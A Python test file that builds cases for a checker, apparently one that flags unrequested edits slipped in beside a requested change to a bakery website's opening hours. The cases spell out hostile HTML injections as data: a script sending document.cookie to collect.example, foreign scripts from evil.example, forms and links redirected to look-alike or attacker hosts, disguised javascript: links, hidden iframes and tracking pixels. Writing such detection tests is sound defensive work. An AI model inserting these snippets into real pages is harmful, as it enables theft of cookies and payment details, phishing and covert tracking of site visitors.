"""Wrong edits that make a page do something: programs, frames, forms, handlers and where the page leads."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.checks.case import Case, Want

if TYPE_CHECKING:
    from tests.checks.case import Edit

_HOURS = "Please change our hours on Monday to Friday: we open at 9:00 now."
_ASKED = ("8:00 – 17:00", "9:00 – 17:00")


def beside(name: str, old: str, new: str, *says: str, page: str = "index.html", want: Want = Want.HELD) -> Case:
    """Return the asked edit with something else done to the same page, or to another one."""
    both = [_ASKED, (old, new)]
    edit: dict[str, Edit] = {page: both} if page == "index.html" else {"index.html": [_ASKED], page: [(old, new)]}
    return Case(name, _HOURS, edit, want, says=("9:00 – 17:00", *says), point=2)


_END = "</body>"
_HEAD = "</head>"

CASES = [
    beside(
        "a foreign script beside the asked hours",
        _END,
        f'<script src="https://cdn.evil.example/x.js"></script>{_END}',
        "cdn.evil.example",
    ),
    beside(
        "a foreign script without its scheme",
        _END,
        f'<script src="//cdn.evil.example/x.js"></script>{_END}',
        "cdn.evil.example",
    ),
    beside(
        "a foreign script on another page",
        _END,
        f'<script src="https://cdn.evil.example/x.js"></script>{_END}',
        "cdn.evil.example",
        page="privacy.html",
    ),
    beside(
        "a script that stands in the page",
        _END,
        f"<script>fetch('https://collect.example/?' + document.cookie)</script>{_END}",
    ),
    beside(
        "a module that is brought from elsewhere",
        _END,
        f"<script type=module>import 'https://mods.example/a.mjs'</script>{_END}",
    ),
    beside(
        "an import map",
        _HEAD,
        f'<script type="importmap">{{"imports": {{"a": "https://mods.example/a.js"}}}}</script>{_HEAD}',
    ),
    beside("the site's own script leads elsewhere", 'src="app.js"', 'src="https://app.example/app.js"', "app.example"),
    beside("the site's own script is gone", '<script src="app.js" defer></script>', "", want=Want.HELD),
    beside(
        "speculation rules",
        _HEAD,
        f'<script type="speculationrules">{{"prefetch": [{{"urls": ["https://spy.example/"]}}]}}</script>{_HEAD}',
    ),
    beside(
        "a frame with a foreign page",
        "</main>",
        '<iframe src="https://ads.example/banner"></iframe></main>',
        "ads.example",
    ),
    beside(
        "a frame of no size",
        "</main>",
        '<iframe src="https://count.example/" width="0" height="0"></iframe></main>',
        "count.example",
    ),
    beside(
        "a frame with a page in its attribute", "</main>", '<iframe srcdoc="<script>alert(1)</script>"></iframe></main>'
    ),
    beside("an object", "</main>", '<object data="https://ads.example/a.swf"></object></main>', "ads.example"),
    beside("an embedded thing", "</main>", '<embed src="https://ads.example/a.html"></main>', "ads.example"),
    beside("another base for all links", _HEAD, f'<base href="https://mirror.example/">{_HEAD}', "mirror.example"),
    beside("a target for all links", _HEAD, f'<base target="other">{_HEAD}'),
    beside("a handler on a link", 'class="button" href', 'class="button" onclick="send()" href'),
    beside("a handler on the body", "<body>", "<body onload=\"location='https://away.example/'\">"),
    beside("a handler on a picture", 'alt="Our shop in Mill Lane"', 'alt="Our shop in Mill Lane" onerror="run()"'),
    beside(
        "a handler on a heading of another page", "<h1>Menu</h1>", "<h1 onmouseover='run()'>Menu</h1>", page="menu.html"
    ),
    beside(
        "a form that sends elsewhere",
        "https://forms.bakery.example/contact",
        "https://forms.bakery-example.com/contact",
        "forms.bakery-example.com",
        page="contact.html",
    ),
    beside("a form that sends without a lock", 'action="https://forms', 'action="http://forms', page="contact.html"),
    beside("a form that puts everything into the address", 'method="post"', 'method="get"', page="contact.html"),
    beside(
        "a button with a target of its own",
        '<button type="submit">',
        '<button type="submit" formaction="https://grab.example/">',
        "grab.example",
        page="contact.html",
    ),
    beside(
        "a hidden field of a form goes to somebody else",
        'value="hello@bakery.example"',
        'value="cash@grab.example"',
        "cash@grab.example",
        page="contact.html",
    ),
    beside(
        "a new field asks for a card",
        "<button type",
        '<label>Card number <input name="card"></label><button type',
        "Card number",
        page="contact.html",
    ),
    beside(
        "a new form of its own",
        "</main>",
        '<form action="https://news.example/join"><input name="mail"><button>Join</button></form></main>',
        "news.example",
    ),
    beside(
        "a refresh that leads away",
        _HEAD,
        f'<meta http-equiv="refresh" content="0; url=https://away.example/">{_HEAD}',
        "away.example",
    ),
    beside(
        "a refresh on another page",
        _HEAD,
        f'<meta http-equiv="Refresh" content="5;URL=https://away.example/">{_HEAD}',
        "away.example",
        page="about.html",
    ),
    beside("search engines are sent away", _HEAD, f'<meta name="robots" content="noindex">{_HEAD}', "noindex"),
    beside(
        "one search engine is sent away",
        _HEAD,
        f'<meta name="googlebot" content="noindex, nofollow">{_HEAD}',
        "noindex",
    ),
    beside(
        "the true address of the page is another one",
        'href="https://bakery.example/"',
        'href="https://bakery-bath.example/"',
        "bakery-bath.example",
    ),
    beside("the true address of the page is gone", '<link rel="canonical" href="https://bakery.example/">\n', ""),
    beside(
        "the page says that it is another language's",
        _HEAD,
        f'<link rel="alternate" hreflang="de" href="https://other.example/de">{_HEAD}',
        "other.example",
    ),
    beside(
        "a foreign style sheet",
        _HEAD,
        f'<link rel="stylesheet" href="https://fonts.spy.example/css">{_HEAD}',
        "fonts.spy.example",
    ),
    beside(
        "a foreign style in the page",
        _HEAD,
        f"<style>@import url(https://fonts.spy.example/css);</style>{_HEAD}",
        "fonts.spy.example",
    ),
    beside(
        "a host is looked up ahead", _HEAD, f'<link rel="preconnect" href="https://spy.example">{_HEAD}', "spy.example"
    ),
    beside(
        "a manifest of somebody else",
        _HEAD,
        f'<link rel="manifest" href="https://apps.example/m.webmanifest">{_HEAD}',
        "apps.example",
    ),
    beside(
        "rules for what may be loaded",
        _HEAD,
        f'<meta http-equiv="Content-Security-Policy" content="default-src *">{_HEAD}',
        "default-src",
    ),
    beside(
        "a picture that counts visitors",
        "</main>",
        '<img src="https://pixel.example/1.gif" width="1" height="1" alt=""></main>',
        "pixel.example",
    ),
    beside(
        "a picture that counts visitors, by srcset only",
        "images/shop-large.jpg 2x",
        "https://pixel.example/2.gif 2x",
        "pixel.example",
    ),
    beside(
        "a film from elsewhere",
        "</main>",
        '<video src="https://films.example/a.mp4" controls></video></main>',
        "films.example",
    ),
    beside(
        "a picture for wide screens from elsewhere",
        '<img src="images/shop.jpg"',
        '<picture><source srcset="https://cdn.img.example/wide.webp"></picture><img src="images/shop.jpg"',
        "cdn.img.example",
    ),
    beside(
        "a link that runs a program",
        'href="https://shop.bakery.example/order"',
        'href="javascript:order()"',
        "javascript:",
    ),
    beside(
        "a link that runs a program, disguised",
        'href="https://shop.bakery.example/order"',
        'href="&#106;ava&#x09;script:order()"',
        "script:order()",
    ),
    beside(
        "a link that holds a page",
        'href="https://shop.bakery.example/order"',
        'href="data:text/html,<h1>Pay here</h1>"',
        "data:text/html",
    ),
    beside(
        "a link to a look-alike host",
        "https://shop.bakery.example/order",
        "https://shop.bakery-example.com/order",
        "shop.bakery-example.com",
    ),
    beside(
        "a link to a host with figures",
        "https://shop.bakery.example/order",
        "https://paypal-24secure.com/order",
        "paypal-24secure.com",
    ),
    beside(
        "a link to a host that only looks the same",
        "https://shop.bakery.example/order",
        "https://shop.bаkery.example/order",
        "https://shop.b",
    ),
    beside(
        "a link with a user's name that looks like a host",
        "https://shop.bakery.example/order",
        "https://shop.bakery.example@grab.example/order",
        "grab.example",
    ),
    beside(
        "a link without a scheme to another host",
        "https://shop.bakery.example/order",
        "//grab.example/order",
        "grab.example",
    ),
    beside(
        "a link to another port", "https://shop.bakery.example/order", "https://shop.bakery.example:8443/order", ":8443"
    ),
    beside(
        "a link without its lock",
        "https://shop.bakery.example/order",
        "http://shop.bakery.example/order",
        "http://shop.bakery.example/order",
        want=Want.HELD,
    ),
    beside(
        "a link on a map leads elsewhere",
        "https://maps.example/amelias-bakery",
        "https://maps.example/other-bakery",
        "other-bakery",
        page="contact.html",
    ),
    beside(
        "a link on a map runs a program",
        "https://maps.example/amelias-bakery",
        "javascript:track()",
        "javascript:track()",
        page="contact.html",
    ),
    beside(
        "a link in a drawing leads elsewhere",
        "<text x=",
        '<a href="https://grab.example/seal"><text x="1">.</text></a><text x=',
        "grab.example",
    ),
    beside(
        "a link tells somebody when it is followed",
        'class="button" href',
        'class="button" ping="https://spy.example/p" href',
        "spy.example",
    ),
    beside(
        "a new link to somebody else's shop",
        "</main>",
        '<p>Also see <a href="https://cheap-bread.example/">these friends</a>.</p></main>',
        "cheap-bread.example",
    ),
    beside(
        "a template that becomes part of the page",
        "</main>",
        '<div><template shadowrootmode="open"><p>Bankrupt since Monday</p></template></div></main>',
        "Bankrupt since Monday",
        want=Want.HELD,
    ),
    beside("an event in the time of an animation", "<text x=", '<animate onbegin="run()" attributeName="x"/><text x='),
    beside(
        "an attribute that a library runs",
        "<main>",
        "<main x-data=\"{ open: fetch('https://spy.example') }\">",
        want=Want.HELD,
    ),
]
